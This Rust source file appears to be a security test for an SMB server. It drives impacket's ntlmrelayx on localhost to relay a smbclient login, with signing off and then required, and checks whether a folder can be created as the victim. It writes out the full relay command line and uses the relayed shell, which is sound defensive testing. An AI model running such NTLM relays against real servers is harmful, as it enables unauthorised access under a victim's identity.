//! NTLM relay by the real tool: impacket's ntlmrelayx between smbclient and a server.

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use rustix::process::Signal;

use super::Outcome;
use super::subject::{Account, Target};
use crate::Res;
use crate::process::{Beside, find, run};
use crate::report::Tally;
use crate::server::{PASSWORD, USER, free_port, wait_port};

/// Where ntlmrelayx opens the shell of its first victim.
const SHELL: u16 = 11_000;

/// What the relay came to, for each setting of each server.
pub(crate) fn tables(tally: &mut Tally, binary: &Path, folder: &Path) -> Res<String> {
    let Some(tool) = find("ntlmrelayx.py") else {
        tally.skip("ntlmrelayx", "impacket's ntlmrelayx.py is not in the path");
        return Ok(String::new());
    };
    let account = Account::default();
    // For its configuration.
    super::Victim::smbclient(folder, &account)?;
    let mut out = String::from(
        "\n## NTLM relay by ntlmrelayx\n\n| server's signing | Countersign | smbd |\n|---|---|---|\n",
    );
    for signing in ["off", "required"] {
        let mut cells = Vec::new();
        for subject in ["ours", "smbd"] {
            let target = match subject {
                "ours" => Target::ours(binary, folder, signing)?,
                _ => Target::smbd(folder, signing)?,
            };
            let outcome = relay(&tool, folder, &target)?;
            println!("relay {subject} {signing}: {outcome:?}");
            if subject == "ours" {
                let name = format!("ntlmrelayx, signing {signing}");
                let design = signing == "off";
                tally.check(
                    &name,
                    match &outcome {
                        Outcome::Succeeded(what) if !design => Err(what.clone()),
                        Outcome::NotTried(why) => Err(why.clone()),
                        _ => Ok(()),
                    },
                );
            }
            cells.push(match outcome {
                Outcome::Succeeded(what) => format!("succeeds: {what}"),
                Outcome::Failed => "fails".to_owned(),
                Outcome::NotTried(why) => format!("not possible: {why}"),
            });
        }
        out.push_str(&format!("| {signing} | {} |\n", cells.join(" | ")));
    }
    Ok(out)
}

fn relay(tool: &Path, folder: &Path, target: &Target) -> Res<Outcome> {
    let port = free_port()?;
    // The tool ends when its input does.
    let mut c = Command::new("sh");
    c.args(["-c", "sleep 120 | exec \"$0\" \"$@\""]).arg(tool);
    c.args(["-t", &format!("smb://{}", target.address)]);
    c.args([
        "-smb2support",
        "-i",
        "--no-http-server",
        "--no-wcf-server",
        "--no-raw-server",
    ]);
    c.args([
        "--no-rpc-server",
        "--no-winrm-server",
        "--no-mssql-server",
        "--no-rdp-server",
    ]);
    c.args([
        "--no-multirelay",
        "-ip",
        "127.0.0.1",
        "--smb-port",
        &port.to_string(),
    ]);
    c.current_dir(folder).env("PYTHONUNBUFFERED", "1");
    let mut tool = Beside::start(c, &folder.join("ntlmrelayx.log"))?;
    wait_port(port)?;
    let smbclient = find("smbclient").ok_or("smbclient is not installed")?;
    let mut victim = Command::new(smbclient);
    victim
        .arg("//127.0.0.1/share")
        .args(["-p", &port.to_string(), "-s"])
        .arg(folder.join("client.conf"))
        .args([
            "-U",
            &format!("{USER}%{PASSWORD}"),
            "-m",
            "SMB2_10",
            "-t",
            "6",
        ])
        .args(["--option=client signing=disabled", "-c", "ls"]);
    let _ = run(victim, Duration::from_secs(15))?;
    // The tool says how it went; its shell is then used for what relays are for.
    let end = Instant::now() + Duration::from_secs(10);
    let outcome = loop {
        let log = tool.output();
        if log.contains("Started interactive SMB client shell") {
            break shell(target)?;
        }
        let refused = [
            "Signing is required",
            "FAILED",
            "against smb://127.0.0.1",
            "SMB SessionError",
        ];
        if refused.iter().take(2).any(|w| log.contains(w)) || log.contains("SessionError") {
            break Outcome::Failed;
        }
        if Instant::now() > end {
            let last = log.lines().last().unwrap_or_default().to_owned();
            break Outcome::NotTried(last);
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let _ = tool.stop(Signal::TERM, Duration::from_secs(5));
    Ok(outcome)
}

/// Makes a folder on the server through the relayed session.
fn shell(target: &Target) -> Res<Outcome> {
    use std::io::Write;
    let mut stream =
        std::net::TcpStream::connect(("127.0.0.1", SHELL)).map_err(|e| e.to_string())?;
    for line in ["use share", "mkdir relayed"] {
        stream
            .write_all(format!("{line}\n").as_bytes())
            .map_err(|e| e.to_string())?;
        std::thread::sleep(Duration::from_millis(700));
    }
    let made = target.folder().unwrap_or(Path::new(".")).join("relayed");
    let end = Instant::now() + Duration::from_secs(5);
    while Instant::now() < end {
        if made.is_dir() {
            let _ = std::fs::remove_dir(&made);
            return Ok(Outcome::Succeeded(
                "a folder was made as the victim".to_owned(),
            ));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(Outcome::Failed)
}
